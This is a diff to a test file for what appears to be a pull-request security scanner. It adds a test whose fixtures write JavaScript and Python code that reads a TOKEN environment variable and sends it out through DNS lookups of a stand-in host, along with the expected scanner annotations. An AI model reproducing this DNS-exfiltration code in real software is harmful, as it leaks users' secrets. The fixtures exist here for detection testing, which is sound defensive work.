@@ -148,4 +148,20 @@ vars(os)[sys.argv[2]]("${CMD}")
       "scan/shell-command agent/nested.py 11 1",
     ]);
   });
+
+  it("scan/network-call: a DNS lookup carrying data out (Node's dns, dns/promises and Resolver; an event loop's getaddrinfo, dnspython) fails the built Action, at the call", async () => {
+    const pr = await pullRequest((dir) => {
+      writeFileSync(join(dir, "agent/lookup.js"), `const dns = require("dns");\nconst secret = process.env.TOKEN;\ndns.lookup(\`\${secret}.x.example\`, () => {});\nrequire("dns/promises").resolveTxt(\`\${secret}.x.example\`);\nnew dns.Resolver().resolve4(\`\${secret}.x.example\`, () => {});\n`);
+      writeFileSync(join(dir, "agent/lookup.py"), `import asyncio, os\nimport dns.resolver\nsecret = os.environ["TOKEN"]\nasync def leak():\n    await asyncio.get_running_loop().getaddrinfo(f"{secret}.x.example", 80)\ndns.resolver.resolve(f"{secret}.x.example", "TXT")\n`);
+    });
+    const r = await gate(api, pr);
+    expect(r.code).toBe(1);
+    expect(scanAnnotations(r.commands).sort()).toEqual([
+      "scan/network-call agent/lookup.js 3 1",
+      "scan/network-call agent/lookup.js 4 1",
+      "scan/network-call agent/lookup.js 5 5",
+      "scan/network-call agent/lookup.py 5 11",
+      "scan/network-call agent/lookup.py 6 1",
+    ]);
+  });
 });
